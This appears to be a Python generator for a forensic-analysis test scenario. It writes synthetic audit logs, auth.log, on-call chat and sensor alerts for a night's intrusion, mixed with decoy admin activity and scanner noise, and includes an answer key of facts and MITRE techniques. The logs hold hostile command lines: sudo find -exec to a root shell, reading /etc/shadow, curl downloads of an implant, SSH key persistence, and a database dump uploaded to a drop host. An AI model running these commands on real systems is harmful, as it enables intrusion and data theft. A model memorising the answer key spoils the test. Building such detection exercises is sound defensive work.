"""A stolen key over ssh, root through an allowed program, a second host, a database taken: audit logs, auth.log, chat, alerts.

Beside it, all of the same night: an administrator who makes accounts and packs folders, a scanner that fails everywhere,
and an alert of a sensor about the scanner.
"""

from __future__ import annotations

import json
import random
from datetime import timedelta
from pathlib import Path

from .hosts import Host, audit_log, ordinary_life
from .making import Day, Scenario, make_truth

DAY = Day("2026-03-18")
ATTACKER, DROP, SCANNER, ADMIN = "203.0.113.88", "198.51.100.200", "10.66.0.9", "10.66.0.21"
WEB, DB = ("shop-web1", "10.66.1.11"), ("shop-db1", "10.66.1.31")
BACKUP, DEPLOY = ("bkp", 1007), ("ivo", 1002)
ROOT = ("root", 0)


def _web(host: Host) -> None:
    at = DAY.at
    host.run(at("01:41:10"), 4100, 702, "/usr/bin/bash", "-bash", BACKUP, "/home/bkp")
    for clock, pid, exe, argv in (
        ("01:41:24", 4101, "/usr/bin/id", "id"), ("01:41:31", 4102, "/usr/bin/uname", "uname -a"),
        ("01:41:52", 4103, "/usr/bin/cat", "cat /etc/passwd"), ("01:42:20", 4104, "/usr/bin/sudo", "sudo -l"),
    ):  # fmt: skip
        host.run(at(clock), pid, 4100, exe, argv, BACKUP, "/home/bkp")
    host.run(
        at("01:43:05"), 4110, 4100, "/usr/bin/sudo", "sudo|find|/etc/hosts|-exec|/bin/sh|;|-quit", BACKUP, "/home/bkp"
    )
    host.run(at("01:43:05.2"), 4111, 4110, "/usr/bin/find", "find|/etc/hosts|-exec|/bin/sh|;|-quit", ROOT, "/home/bkp")
    host.run(at("01:43:05.4"), 4112, 4111, "/usr/bin/dash", "/bin/sh", ROOT, "/home/bkp")
    for clock, pid, exe, argv in (
        ("01:44:10", 4120, "/usr/bin/cat", "cat /etc/shadow"),
        ("01:45:02", 4121, "/usr/bin/curl", f"curl -s http://{DROP}:8081/pkg/sysmond -o /usr/local/sbin/sysmond"),
        ("01:45:10", 4122, "/usr/bin/chmod", "chmod 755 /usr/local/sbin/sysmond"),
        ("01:46:00", 4123, "/usr/bin/tee", "tee /etc/systemd/system/sysmond.service"),
        ("01:46:20", 4124, "/usr/bin/systemctl", "systemctl enable --now sysmond.service"),
        ("01:47:30", 4126, "/usr/bin/tee", "tee -a /root/.ssh/authorized_keys"),
        ("01:48:40", 4127, "/usr/bin/ssh", f"ssh -i /root/.ssh/id_rsa root@{DB[1]}"),
    ):  # fmt: skip
        host.run(at(clock), pid, 4112, exe, argv, ROOT, "/root")
    host.connect(at("01:45:02.3"), 4121, DROP, 8081)
    host.file(at("01:45:03"), 4121, "/usr/local/sbin/sysmond")
    host.file(at("01:46:00.2"), 4123, "/etc/systemd/system/sysmond.service")
    host.run(at("01:46:21"), 4130, 1, "/usr/local/sbin/sysmond", "/usr/local/sbin/sysmond -d", ROOT)
    host.connect(at("01:46:23"), 4130, DROP, 8443)
    host.connect(at("01:48:40.3"), 4127, DB[1], 22)
    host.run(
        at("02:09:00"), 4140, 4112, "/usr/bin/rm", "rm -f /root/.bash_history /home/bkp/.bash_history", ROOT, "/root"
    )


def _database(host: Host) -> None:
    at = DAY.at
    host.run(at("01:48:44"), 6200, 702, "/usr/bin/bash", "-bash", ROOT, "/root")
    host.run(
        at("01:50:10"),
        6201,
        6200,
        "/usr/bin/bash",
        "bash|-c|mysqldump --all-databases \x00 gzip > /var/tmp/.cache.gz",
        ROOT,
        "/root",
    )
    host.run(at("01:50:10.3"), 6202, 6201, "/usr/bin/mysqldump", "mysqldump --all-databases", ROOT, "/root")
    host.run(at("01:50:10.4"), 6203, 6201, "/usr/bin/gzip", "gzip", ROOT, "/root")
    host.file(at("01:50:11"), 6201, "/var/tmp/.cache.gz")
    host.run(
        at("01:58:30"), 6210, 6200, "/usr/bin/curl", f"curl -T /var/tmp/.cache.gz http://{DROP}:8081/in/", ROOT, "/root"
    )
    host.connect(at("01:58:30.4"), 6210, DROP, 8081)
    host.run(at("02:06:12"), 6220, 6200, "/usr/bin/shred", "shred -u /var/tmp/.cache.gz", ROOT, "/root")


def _administrator(host: Host, start: str) -> None:
    """What looks alike: an account, rights, packed configuration, copied to the backup server."""
    t = DAY.at(start)
    host.run(t, 7300, 702, "/usr/bin/bash", "-bash", DEPLOY, "/home/ivo")
    for n, (exe, argv) in enumerate((
        ("/usr/sbin/useradd", "useradd -m -s /bin/bash lena"), ("/usr/sbin/usermod", "usermod -aG adm lena"),
        ("/usr/bin/tar", "tar czf /var/backups/etc-2026-03-18.tgz /etc"), ("/usr/bin/rsync", "rsync -a /var/backups/ backup@10.66.0.40:/srv/shop/"),
        ("/usr/bin/systemctl", "systemctl restart nginx"), ("/usr/bin/cat", "cat /etc/passwd"),
    )):  # fmt: skip
        host.run(t + timedelta(seconds=20 * n + 5), 7301 + n, 7300, exe, argv, ROOT, "/home/ivo")


def _auth_log(folder: Path, dice: random.Random) -> None:
    at, lines = DAY.at, []
    for n, time in enumerate(DAY.spread(dice, "00:30:00", "03:20:00", 60)):
        name = dice.choice(("admin", "root", "test", "oracle"))
        lines.append(
            (
                time,
                dice.choice((WEB, DB))[0],
                "sshd",
                3000 + n,
                f"Failed password for invalid user {name} from {SCANNER} port {40000 + n} ssh2",
            )
        )
    lines += [
        (at("01:41:09"), WEB[0], "sshd", 4099, f"Accepted publickey for bkp from {ATTACKER} port 51122 ssh2: RSA SHA256:o1Kx9uZ3Qm7c2h6yW4nT8r"),
        (at("01:43:05"), WEB[0], "sudo", 4110, "     bkp : TTY=pts/3 ; PWD=/home/bkp ; USER=root ; COMMAND=/usr/bin/find /etc/hosts -exec /bin/sh ; -quit"),
        (at("01:48:43"), DB[0], "sshd", 6199, f"Accepted publickey for root from {WEB[1]} port 40022 ssh2: RSA SHA256:Fw8s5e1"),
        (at("02:31:00"), WEB[0], "sshd", 7299, f"Accepted publickey for ivo from {ADMIN} port 50991 ssh2: ED25519 SHA256:qq1"),
        (at("02:31:20"), WEB[0], "sudo", 7301, "     ivo : TTY=pts/1 ; PWD=/home/ivo ; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash lena"),
    ]  # fmt: skip
    for n, clock in enumerate(("00:05:10", "00:50:44", "03:15:10")):
        lines.append(
            (
                at(clock),
                WEB[0],
                "sshd",
                2900 + n,
                f"Accepted publickey for ivo from {ADMIN} port {50000 + n} ssh2: ED25519 SHA256:qq1",
            )
        )
    text = (f"{zone(t)} {host} {program}[{pid}]: {said}\n" for t, host, program, pid, said in sorted(lines))
    (folder / "auth.log").write_text("".join(text))


def zone(time: object) -> str:
    """The clock of the logs is that of Lisbon's summer, and says so."""
    return (time + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%S.%f") + "+01:00"  # type: ignore[operator]


def _chat(folder: Path) -> None:
    def message(clock: str, user: str, text: str) -> dict[str, str]:
        return {"type": "message", "user": user, "ts": f"{DAY.at(clock).timestamp():.6f}", "text": text}

    said = [
        message("00:20:00", "U01IVO", "reminder: nightly scan of the ssh hosts runs until 03:30, expect failed logins"),
        message("02:25:00", "U01IVO", "making lena's account and the monthly copy of /etc on shop-web1 now"),
        message("02:40:00", "U02ANA", "shop-db1 sent 3 GB to 198.51.100.200 around 02:00, is that you?"),
    ]
    (folder / "oncall").mkdir()
    (folder / "oncall" / "2026-03-18.json").write_text(json.dumps(said))


def _alerts(folder: Path) -> None:
    rows = [
        {"timestamp": DAY.at("00:41:00").isoformat(), "rule_name": "SSH brute force", "severity": "high", "src_ip": SCANNER, "hostname": "shop-web1",
         "message": f"many failed logins from {SCANNER}"},
        {"timestamp": DAY.at("02:00:10").isoformat(), "rule_name": "Large upload", "severity": "medium", "src_ip": DB[1], "dest_ip": DROP,
         "hostname": "shop-db1", "message": f"3 GB to {DROP} over HTTP"},
    ]  # fmt: skip
    (folder / "sensor_alerts.json").write_text("".join(json.dumps(r) + "\n" for r in rows))


def write(folder: Path) -> None:
    """The night's logs of both hosts, the chat and the sensor's alerts."""
    dice = random.Random(41)
    web, db = Host(*WEB), Host(*DB)
    for host in (web, db):
        ordinary_life(host, DAY, dice, "00:05:00", "03:25:00", 160)
    _web(web)
    _database(db)
    _administrator(web, "02:31:10")
    (folder / "audit-web1.log").write_text(audit_log(web, node=True))
    (folder / "audit-db1.log").write_text(audit_log(db, node=True))
    _auth_log(folder, dice)
    _chat(folder)
    _alerts(folder)


FACTS = (
    ("attacker", 3, (ATTACKER,)), ("login", 3, (f"bkp & logged on & {ATTACKER}",)), ("web", 2, ("shop-web1",)), ("db", 3, ("shop-db1",)),
    ("sudo_list", 1, ("sudo -l",)), ("root_shell", 3, ("find & -exec",)), ("shadow", 2, ("/etc/shadow",)),
    ("fetch", 3, (f"curl & {DROP} & sysmond",)), ("service", 3, ("sysmond.service",)), ("agent", 2, (f"sysmond & {DROP}",)),
    ("root_key", 3, ("authorized_keys",)), ("hop", 3, (f"root & {WEB[1]}", f"ssh & {DB[1]}")), ("dump", 3, ("mysqldump",)),
    ("pack", 1, ("/var/tmp/.cache.gz",)), ("upload", 3, (f"curl & {DROP} & .cache.gz",)), ("shred", 2, ("shred",)), ("history", 1, (".bash_history",)),
)  # fmt: skip
SCENARIOS = (
    Scenario("stolen_key", write, make_truth(
        "stolen_key", FACTS, "login sudo_list root_shell shadow fetch service root_key hop dump upload shred history",
        "T1078 T1021.004 T1033 T1082 T1087.001 T1548.003 T1003.008 T1105 T1543.002 T1098.004 T1048 T1070.003 T1070.004",
        "T1059.004 T1069.001 T1069 T1222.002 T1071 T1571 T1560.001 T1552.004 T1005 T1213 T1074 T1074.001 T1041 T1036 T1036.005 T1564.001 T1548 T1083",
        ("2026-03-18T01:41:09Z", "2026-03-18T02:09:00Z"), (SCANNER, ADMIN, "lena", "ivo", "10.66.0.40", "nginx"),
    )),
)  # fmt: skip
